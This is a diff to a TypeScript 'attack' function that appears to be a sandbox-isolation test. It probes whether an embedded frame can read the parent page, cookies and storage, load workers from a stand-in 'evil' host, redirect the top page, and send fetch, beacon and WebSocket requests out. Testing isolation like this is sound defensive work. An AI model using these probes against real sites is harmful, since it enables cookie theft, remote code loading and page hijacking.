@@ -39,12 +39,12 @@ async function attack(evil: string): Promise<void> {
   await tried('the page’s document', () => parent.document.title);
   await tried('the page’s variables', () => (parent as unknown as { sdk: unknown }).sdk);
   await tried('the top’s address', () => top?.location.href);
-  await tried('cookies', () => Reflect.get(document, 'cookie') as string);
+  await tried('cookies', () => String(Reflect.get(document, 'cookie')));
   await tried('localStorage', () => localStorage.length);
   await tried('sessionStorage', () => sessionStorage.length);
   await tried('indexedDB', () => indexedDB.open('x').readyState);
   await tried('service workers', () => navigator.serviceWorker.register(`${evil}/worker.js`));
-  await tried('a worker', () => String(new Worker(`${evil}/worker.js`)));
+  await tried('a worker', () => new Worker(`${evil}/worker.js`).onmessage);
   await tried('a popup', () => open(`${evil}/popup`));
   await tried('the page’s place', () => {
     if (parent !== self) parent.location.href = `${evil}/top`;
@@ -62,7 +62,7 @@ async function attack(evil: string): Promise<void> {
   await tried('fetch', () => fetch(`${evil}/fetch`, { mode: 'no-cors' }).then(() => 'fetched'));
   await tried('fetch of the API', () => fetch('https://learningcircles.p2pu.org/api/courses/'));
   await tried('a beacon', () => navigator['sendBeacon'](`${evil}/beacon`));
-  await tried('a socket', () => String(new WebSocket(evil.replace('https', 'wss'))));
+  await tried('a socket', () => new WebSocket(evil.replace('https', 'wss')).onmessage);
   await tried('an image', loaded('img'));
   await tried('a script', loaded('script'));
   await tried('a style sheet', loaded('link'));
@@ -76,8 +76,9 @@ async function attack(evil: string): Promise<void> {
     'where the visitor is',
     () =>
       new Promise((found, refused) => {
-        navigator.geolocation.getCurrentPosition(found, () => { refused(new DOMException('', 'Denied')); },
-        );
+        navigator.geolocation.getCurrentPosition(found, () => {
+          refused(new DOMException('', 'Denied'));
+        });
       }),
   );
   parent.postMessage({ outcomes }, '*');
